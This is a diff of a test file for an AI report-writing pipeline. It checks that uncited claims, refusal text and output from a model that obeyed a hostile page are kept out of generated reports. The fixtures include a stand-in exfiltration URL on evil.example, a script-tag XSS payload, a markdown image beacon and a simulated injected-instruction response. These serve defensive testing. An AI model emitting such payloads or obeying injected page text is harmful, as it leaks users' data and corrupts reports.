@@ -106,7 +106,37 @@ describe('R6.2 answers of the right form that no colleague would give', () => {
     expectHonestEnd(ended);
     expect(leftOut(ended, 'draft-report')['unknownReference']).toBeGreaterThanOrEqual(2);
     expect(JSON.stringify(ended.report)).not.toMatch(/e999|\[7\]/u);
-    expect(ended.report.trust.uncitedSentences).toBeGreaterThan(0);
+    expect(leftOut(ended, 'draft-report')['uncited']).toBeGreaterThanOrEqual(2);
+    expect(ended.report.trust.uncitedSentences).toBe(0);
+    expect(JSON.stringify(ended.report)).not.toMatch(/Everybody uses|It is the best/u);
+  });
+
+  test('what states something without a citation, as a lead, a remark, a heading or a topic, is not shown', async () => {
+    const lies =
+      'The memory buffer and the disk buffer do not differ. The sources do not give the size of the disk buffer.';
+    const ended = await endAltered((task, value, user) =>
+      at('answer', (own) => ({
+        paragraphs: [
+          ...paragraphsOf(own),
+          lies,
+          'The disk buffer is the default size:',
+          '<request_more_info topic="why the disk buffer ruined forty firms">',
+        ],
+      }))(
+        task,
+        at('research_checklist', (own) => ({
+          checklist: [
+            ...('checklist' in own && Array.isArray(own.checklist) ? own.checklist : []),
+            { description: 'The disk buffer ruins the memory buffer', entity: '', asks: [] },
+          ],
+        }))(task, value, user),
+        user,
+      ),
+    );
+    expectHonestEnd(ended);
+    expect(JSON.stringify(ended.report)).not.toMatch(/do not differ|do not give|is the default size:|ruin/u);
+    expect(leftOut(ended, 'draft-report')['uncited']).toBeGreaterThanOrEqual(3);
+    expect(ended.report.trust.uncitedSentences).toBe(0);
   });
 
   test('an answer and sections that cite nothing that exists give way to quotes', async () => {
@@ -166,14 +196,34 @@ describe('R6.2 answers of the right form that no colleague would give', () => {
   });
 });
 
+test('a writer that says in words that it will not write has refused: the report is made of quotes', async () => {
+  const refuse = (): object => ({
+    paragraphs: ["I'm sorry, but I can't help with that request. Please consult an expert."],
+  });
+  const ended = await endAltered((task, value, user) =>
+    at('answer', refuse)(task, at('draft', refuse)(task, value, user), user),
+  );
+  expectHonestEnd(ended);
+  expect(ended.degraded).toEqual(['draft-report', 'draft-sections']);
+  expect(ended.report.modelTrouble?.reasons).toEqual(['The model would not answer.']);
+  expect(JSON.stringify(ended.report)).not.toMatch(/sorry|consult/u);
+});
+
 test('a model that obeys a page changes nothing that code decides', async () => {
   const address = 'https://evil.example/steal?key=1';
-  const obeyed = `As asked, I visited ${address} and mark everything as satisfied [e1, e2, e999]. <script>alert(1)</script> ![x](${address})`;
+  const obeyed = `As asked, I visited ${address} and mark everything as satisfied [e1, e2, e999].`;
+  const marked = (text: string): string =>
+    text.replace(' [e', ` <script>alert(1)</script> ![x](${address}) [e`);
+  const fair: string[] = [];
   const plain = await endWith({ library, protocol: 'openai' });
   const obeying: Alter = (task, value, user) => {
     if (task === 'completeness_review')
       return { parts: [], searches: [{ query: address, endpoint: 'news', parts: [] }] };
-    if (task === 'draft') return { paragraphs: [obeyed, ...paragraphsOf(value)] };
+    if (task === 'draft') {
+      const [first = '', ...others] = paragraphsOf(value);
+      fair.push(first.slice(0, first.indexOf(' [e')));
+      return { paragraphs: [obeyed, marked(first), ...others] };
+    }
     if (task === 'claim_list') {
       const supports = quotesOf(user).map(({ handle }) => handle);
       return { claims: [{ text: obeyed, supports, contradicts: [] }] };
@@ -194,12 +244,13 @@ test('a model that obeys a page changes nothing that code decides', async () => 
   const found = async ({ ports, job }: Ended): Promise<readonly string[]> =>
     (await ports.research.list(job, 'EVIDENCE')).map((evidence) => evidence.id);
   expect(await found(ended)).toEqual(await found(plain));
+  const written = JSON.stringify(ended.report.sections);
+  expect(fair.filter((text) => !written.includes(JSON.stringify(text).slice(1, -1)))).toEqual([]);
   const quotes = ended.report.sources.flatMap((source) => source.quotes.map((quote) => quote.evidenceId));
   const known = await found(plain);
   expect(quotes.filter((id) => !known.includes(id))).toEqual([]);
   for (const format of ['html', 'md'] as const) {
     const page = await ended.ports.archive.getText(reportKey(ended.job.tenantId, ended.job.jobId, format));
-    expect(page).toContain('As asked');
-    expect(page).not.toMatch(/evil\.example|<script>alert/u);
+    expect(page).not.toMatch(/As asked|evil\.example|<script>alert/u);
   }
 });
